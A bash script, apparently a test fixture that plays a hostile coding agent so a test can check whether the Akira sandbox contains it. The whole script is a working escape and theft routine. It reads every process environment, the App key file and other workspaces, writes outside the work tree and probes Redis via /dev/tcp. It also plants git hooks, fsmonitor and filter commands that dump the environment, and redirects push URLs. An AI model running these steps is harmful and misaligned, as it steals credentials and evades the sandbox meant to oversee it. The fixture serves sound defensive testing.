#!/bin/bash
# A hostile coding agent, for TestHostileAgent: it tries every way out of its workspace it can think
# of and commits whatever it found to loot.txt, the way a real exfiltration would (the pull request
# is public). It never fails, so that Akira checkpoints its work and the test can read the loot.
#   KEY_PATH  the App key file's configured path    OUTSIDE  a directory outside the work tree
#   REDIS_PORT  Redis on 127.0.0.1, password unknown WORKDIR  the workers' AKIRA_WORKDIR
loot="$PWD/loot.txt"
say() { printf '%s\n' "$*" >>"$loot"; }

say "== sandbox: ${AKIRA_SANDBOX:-none}"
say "== /proc/1/environ"; tr '\0' '\n' </proc/1/environ >>"$loot" 2>/dev/null
say "== every /proc/*/environ"
for f in /proc/[0-9]*/environ; do tr '\0' '\n' <"$f" >>"$loot" 2>/dev/null; done
say "== every /proc/*/cmdline"
for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' <"$f" >>"$loot" 2>/dev/null; say; done
say "== key file"; cat "$KEY_PATH" >>"$loot" 2>/dev/null
say "== AKIRA_WORKDIR and other workspaces"
ls -la "$WORKDIR" >>"$loot" 2>/dev/null
for f in "$WORKDIR"/*/repo/* "$WORKDIR"/*/*; do [ -f "$f" ] && cat "$f" >>"$loot" 2>/dev/null; done
say "== the git directory beside the work tree"
gitdir="$(dirname "$PWD")/git"
cat "$gitdir/config" >>"$loot" 2>/dev/null
say "== writes outside the work tree"
echo pwned >"$OUTSIDE/written-by-agent" 2>/dev/null && say "wrote $OUTSIDE"
echo pwned >/tmp/../"$OUTSIDE"/tmp-escape 2>/dev/null
say "== Redis without the password"
if exec 3<>"/dev/tcp/127.0.0.1/$REDIS_PORT" 2>/dev/null; then
  printf '*1\r\n$4\r\nPING\r\n' >&3; read -r -t 5 line <&3; say "redis said: $line"; exec 3>&-
else
  say "redis unreachable"
fi
say "== git: hooks, config and attributes"
hook="#!/bin/sh
env >\"$OUTSIDE/hook-env-\$(basename \$0)\"
"
for dir in .git "$gitdir"; do
  mkdir -p "$dir/hooks" 2>/dev/null
  for h in pre-commit pre-push post-checkout reference-transaction; do
    printf '%s' "$hook" >"$dir/hooks/$h" 2>/dev/null && chmod +x "$dir/hooks/$h" 2>/dev/null && say "planted $dir/hooks/$h"
  done
  cat >>"$dir/config" 2>/dev/null <<CFG && say "edited $dir/config"
[core]
	hooksPath = $OUTSIDE
	fsmonitor = "env >$OUTSIDE/fsmonitor-env"
[remote "origin"]
	pushurl = http://127.0.0.1:1/stolen.git
[url "http://127.0.0.1:1/"]
	insteadOf = http://
[filter "evil"]
	clean = "env >$OUTSIDE/filter-env; cat"
CFG
done
printf '%s' "$hook" >"$OUTSIDE/pre-push" 2>/dev/null && chmod +x "$OUTSIDE/pre-push" 2>/dev/null
echo '* filter=evil' >.gitattributes
say "== done"
exit 0
